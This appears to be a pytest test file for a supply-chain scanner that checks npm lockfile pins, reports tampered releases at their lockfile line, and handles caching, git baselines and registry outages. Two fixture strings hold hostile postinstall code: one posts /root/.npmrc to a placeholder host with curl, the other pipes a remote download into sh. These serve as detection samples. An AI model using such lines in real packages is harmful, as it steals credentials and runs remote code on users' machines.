"""``lazaretto check`` on a project of its own: every pin is asked about or told to be unread, with its place."""

import os
import subprocess
from pathlib import Path

import pytest

from tests.surfaces.site import NOW, Machine, Site

EVIL = "const { exec } = require('child_process');\nexec('curl -d @/root/.npmrc https://drop.example.invalid/x');\n"
PIPED = "require('child_process').execSync('curl https://drop.example.invalid/x | sh');\n"


def project(machine: Machine, text: str, name: str = "package-lock.json") -> Path:
    """Put a lockfile into the project folder."""
    folder = machine.folder / "project"
    folder.mkdir(exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return folder


def line_of(folder: Path, words: str, name: str = "package-lock.json") -> int:
    """Return the line of a lockfile that holds these words."""
    lines = (folder / name).read_text("utf-8").splitlines()
    return next(number for number, line in enumerate(lines, 1) if words in line)


def git(folder: Path, *words: str) -> None:
    """Run git on a folder, with a person of its own."""
    who = ("-c", "user.name=t", "-c", "user.email=t@mail.invalid", "-c", "commit.gpgsign=false")
    subprocess.run(["git", *who, "-C", str(folder), *words], check=True, capture_output=True)


def kept_now(machine: Machine) -> None:
    """Let every page that is kept have come when it is now for the command line."""
    pages = [path for path in machine.folder.rglob("*.page") if path.parent.name == "pages"]
    assert pages
    for path in pages:
        os.utime(path, (NOW.timestamp() - 1, NOW.timestamp() - 1))


def test_every_pin_is_asked_about(machine: Machine) -> None:
    """Each release once, with the line that pins it; exit code 0 if all is allowed."""
    pins = {name: ("1.0.1", machine.site.publish(name, "1.0.1")) for name in ("pad", "left", "right")}
    folder = project(machine, machine.site.lockfile(pins))
    ran = machine.run("check", str(folder), "--format", "json")

    assert ran.code == 0
    assert [update["name"] for update in ran.report["updates"]] == ["left", "pad", "right"]
    line = line_of(folder, '"node_modules/pad"')
    assert {"purl": "pkg:npm/pad@1.0.1", "path": "package-lock.json", "line": line} in ran.report["places"]
    assert not ran.report["problems"]


def test_pages_are_not_asked_for_again_within_minutes(machine: Machine) -> None:
    """But for one that is older than a pin, or if the user wants it; the answers are the same."""
    pins = {name: ("1.0.1", machine.site.publish(name, "1.0.1")) for name in ("pad", "left")}
    folder = project(machine, machine.site.lockfile(pins))
    asked = machine.site.server.requests
    pages = [f"/{name}" for name in pins]

    first = machine.run("check", str(folder), "--format", "json")
    assert sorted(path for path, _ in asked if path in pages) == sorted(pages)
    asked.clear()
    kept_now(machine)
    assert machine.run("check", str(folder), "--format", "json").report == first.report
    assert not asked
    assert machine.run("check", str(folder), "--format", "json", "--refresh").report == first.report
    assert sorted(path for path, _ in asked if path in pages) == sorted(pages)
    asked.clear()
    kept_now(machine)
    pins["pad"] = ("1.0.2", machine.site.publish("pad", "1.0.2"))
    ran = machine.run("check", str(project(machine, machine.site.lockfile(pins))))
    assert ran.code == 0
    assert [path for path, _ in asked if path in pages] == ["/pad"]


def test_a_tampered_pin_is_refused_at_its_line(machine: Machine) -> None:
    """The terminal shows the finding and where the project pins it; SARIF puts the result at that line."""
    machine.site.publish("pad", "1.0.0", age=60)
    manifest = Site.manifest("pad", "1.0.1", scripts={"postinstall": "node setup.js"})
    bad = machine.site.publish("pad", "1.0.1", {"setup.js": EVIL, "package.json": manifest})
    good = machine.site.publish("left", "2.0.0")
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.1", bad), "left": ("2.0.0", good)}))
    ran = machine.run("check", str(folder))

    assert ran.code == 1
    assert "setup.js:2" in ran.out
    line = line_of(folder, "node_modules/pad")
    assert f"pinned at package-lock.json:{line}" in ran.out
    assert "ALLOW left 2.0.0" in ran.out
    assert "2 releases: 1 allow" in ran.out
    result = machine.run("check", str(folder), "--format", "sarif").report["runs"][0]["results"][0]
    place = result["locations"][0]["physicalLocation"]
    assert (place["artifactLocation"]["uri"], place["region"]["startLine"]) == ("package-lock.json", line)
    assert machine.run("check", str(folder), "--exit-zero").code == 0


def test_what_cannot_be_asked_is_a_problem_at_its_line(machine: Machine) -> None:
    """Unknown, not from a registry, not understood: each is told; a member of the project itself is none."""
    good = machine.site.publish("pad", "1.0.0")
    extra = {
        "node_modules/gone": {"version": "1.0.0", "resolved": "https://registry.invalid/gone/-/gone-1.0.0.tgz"},
        "node_modules/old": {"version": "9.9.9"},
        "node_modules/git": {"version": "1.0.0", "resolved": "git+ssh://git@code.invalid/x.git#" + "0" * 40},
        "node_modules/packed": {"version": "1.0.0", "resolved": "file:vendor/packed-1.0.0.tgz"},
        "node_modules/odd": {"version": "1.0.0", "integrity": "sha512-!"},
        "node_modules/member": {"resolved": "packages/member", "link": True},
        "node_modules/stranger": {"resolved": "../stranger", "link": True},
    }
    machine.site.publish("old", "1.0.0")
    machine.site.publish("odd", "1.0.0")
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.0", good)}, **extra))
    ran = machine.run("check", str(folder), "--format", "json")

    assert ran.code == 3
    assert [update["name"] for update in ran.report["updates"]] == ["odd", "pad"]
    problems = "\n".join(ran.report["problems"])
    for name, words in {
        "gone": "does not exist",
        "old": "has no release 9.9.9",
        "git": "not from a registry",
        "packed": "not from a registry",
        "odd": "not understood",
        "stranger": "not from a registry",
    }.items():
        line = line_of(folder, f'"node_modules/{name}"')
        found = [text for text in ran.report["problems"] if text.startswith(f"package-lock.json:{line}: ")]
        assert any(words in text for text in found), (name, problems)
    assert "member" not in problems


def test_a_lockfile_that_fixes_other_bytes_than_the_index_is_told(machine: Machine) -> None:
    """The digest of the lockfile is compared with the index's, in plain words."""
    machine.site.publish("pad", "1.0.0")
    other = machine.site.publish("left", "1.0.0")
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.0", other)}))
    ran = machine.run("check", str(folder), "--format", "json")

    assert ran.code == 3
    (problem,) = ran.report["problems"]
    assert problem.startswith(f"package-lock.json:{line_of(folder, 'node_modules/pad')}: pad 1.0.0: ")
    assert "not the same bytes" in problem


def test_a_digest_that_the_index_does_not_tell_is_computed(machine: Machine) -> None:
    """An index that tells SHA-1 only: what the lockfile fixes is compared with the bytes themselves."""
    sri = machine.site.publish("pad", "1.0.0", integrity=None)
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.0", sri)}))

    assert machine.run("check", str(folder)).code == 0
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.0", machine.site.publish("left", "1.0.0"))}))
    ran = machine.run("check", str(folder))
    assert ran.code == 3
    assert "not the same bytes" in " ".join(ran.out.split())


def test_an_address_that_nothing_vouches_for_is_told(machine: Machine) -> None:
    """A pin without a digest, taken from elsewhere: what we read need not be what gets installed."""
    machine.site.publish("pad", "1.0.0")
    text = machine.site.lockfile({"pad": ("1.0.0", None)})

    assert machine.run("check", str(project(machine, text))).code == 0
    ran = machine.run("check", str(project(machine, text.replace(machine.site.server.url, "https://else.invalid"))))
    assert ran.code == 3
    assert "fixes no digest" in " ".join(ran.out.split())


def test_a_broken_lockfile_does_not_keep_the_others_from_being_checked(machine: Machine) -> None:
    """One located error, and the verdicts of the rest; exit code 3."""
    good = machine.site.publish("pad", "1.0.0")
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.0", good)}))
    project(machine, '{\n "lockfileVersion": 3,\n "packages": {]\n', "npm-shrinkwrap.json")
    ran = machine.run("check", str(folder), "--format", "json")

    assert ran.code == 3
    assert [update["name"] for update in ran.report["updates"]] == ["pad"]
    (problem,) = ran.report["problems"]
    assert problem.startswith("npm-shrinkwrap.json:3: ")


def test_a_lockfile_that_is_too_large_is_told(machine: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    """It is not read at all, and the run is incomplete."""
    monkeypatch.setattr("lazaretto.surfaces.cli.lockfiles.MAX_LOCKFILE", 10)
    ran = machine.run("check", str(project(machine, machine.site.lockfile({}))), "--format", "json")

    assert ran.code == 3
    assert "larger than" in ran.report["problems"][0]


def test_one_lockfile_can_be_named(machine: Machine) -> None:
    """A file is checked alone, whatever lies beside it; one that is no lockfile is a wrong use."""
    good = machine.site.publish("pad", "1.0.0")
    folder = project(machine, machine.site.lockfile({"pad": ("1.0.0", good)}))
    project(machine, "broken", "npm-shrinkwrap.json")

    assert machine.run("check", str(folder / "package-lock.json")).code == 0
    ran = machine.run("check", str(project(machine, "", "notes.txt") / "notes.txt"))
    assert ran.code == 2
    assert "package-lock.json" in ran.err
    assert machine.run("check", str(folder / "absent")).code == 2


def test_nothing_to_check_is_said_with_what_was_looked_for(machine: Machine) -> None:
    """A folder without a lockfile, and a lockfile without a pin: exit code 4."""
    folder = machine.folder / "empty"
    folder.mkdir()
    ran = machine.run("check", str(folder))

    assert (ran.code, ran.out) == (4, "nothing to check\n")
    assert "uv.lock" in ran.err
    assert "package-lock.json" in ran.err
    folder = project(machine, machine.site.lockfile({}))
    ran = machine.run("check", str(folder), "--format", "json")
    assert (ran.code, ran.report["updates"]) == (4, [])


def test_since_asks_for_the_users_own_update(machine: Machine) -> None:
    """Only what changed, measured against the version that the project had; what is new has the usual baseline."""
    site = machine.site
    old = {name: ("1.0.0", site.publish(name, "1.0.0", age=90)) for name in ("pad", "same")}
    folder = project(machine, site.lockfile(old))
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "first")
    site.publish("pad", "1.1.0", age=60)
    new = {**old, "pad": ("1.2.0", site.publish("pad", "1.2.0")), "fresh": ("3.0.0", site.publish("fresh", "3.0.0"))}

    assert machine.run("check", str(folder), "--since", "HEAD").code == 4
    project(machine, site.lockfile(new))
    ran = machine.run("check", str(folder), "--since", "HEAD", "--format", "json")
    assert ran.code == 0
    found = {update["name"]: (update["version"], update["before"]) for update in ran.report["updates"]}
    assert found == {"pad": ("1.2.0", "1.0.0"), "fresh": ("3.0.0", None)}
    git(folder, "commit", "-q", "--allow-empty", "-m", "second")
    ran = machine.run("check", str(folder), "--since", "no-such-revision")
    assert ran.code == 3
    assert "no-such-revision" in ran.err


def test_since_says_when_the_old_version_is_gone(machine: Machine) -> None:
    """The index no longer has what the project had: the usual baseline, and a sentence about it."""
    site = machine.site
    folder = project(machine, site.lockfile({"pad": ("1.0.5", None)}))
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "first")
    site.publish("pad", "1.0.0", age=90)
    project(machine, site.lockfile({"pad": ("1.1.0", site.publish("pad", "1.1.0"))}))
    ran = machine.run("check", str(folder), "--since", "HEAD", "--format", "json")

    (update,) = ran.report["updates"]
    assert update["before"] == "1.0.0"
    assert any("1.0.5" in sentence and "no longer has it" in sentence for sentence in update["not_asked"])


def test_a_registry_that_is_down_is_not_asked_for_ever(machine: Machine) -> None:
    """After some failures in a row it is given up; still every pin has its problem."""
    folder = project(machine, machine.site.lockfile({f"pad{number}": ("1.0.0", None) for number in range(30)}))
    machine.registry("http://127.0.0.1:9/")
    ran = machine.run("check", str(folder), "--format", "json")

    assert ran.code == 3
    assert len(ran.report["problems"]) == 30
    assert "not asked again" in ran.report["problems"][-1]
    shown = machine.run("check", str(folder)).out
    assert "10 more (--verbose)" in shown


def test_since_says_when_the_old_lockfile_cannot_be_read(machine: Machine) -> None:
    """Then every pin counts, and standard error says so unless the run is to be quiet."""
    folder = project(machine, "{")
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "first")
    project(machine, machine.site.lockfile({"pad": ("1.0.0", machine.site.publish("pad", "1.0.0"))}))
    ran = machine.run("check", str(folder), "--since", "HEAD")

    assert ran.code == 0
    assert "package-lock.json as it was cannot be read" in ran.err
    assert machine.run("check", str(folder), "--since", "HEAD", "--quiet").err == ""


def test_an_update_that_is_tampered_since_is_measured_against_the_users_own(machine: Machine) -> None:
    """A two-step release hides nothing: what came with the step between counts as well."""
    site = machine.site
    folder = project(machine, site.lockfile({"pad": ("1.0.0", site.publish("pad", "1.0.0", age=90))}))
    git(folder, "init", "-q")
    git(folder, "add", ".")
    git(folder, "commit", "-q", "-m", "first")
    for version, age in (("1.0.1", 60), ("1.0.2", 30)):
        manifest = Site.manifest("pad", version, scripts={"postinstall": "node setup.js"})
        sri = site.publish("pad", version, {"setup.js": PIPED, "package.json": manifest}, age=age)
    project(machine, site.lockfile({"pad": ("1.0.2", sri)}))

    assert machine.run("check", str(folder)).code == 0, "against 1.0.1, which did the same"
    assert machine.run("check", str(folder), "--since", "HEAD").code == 1
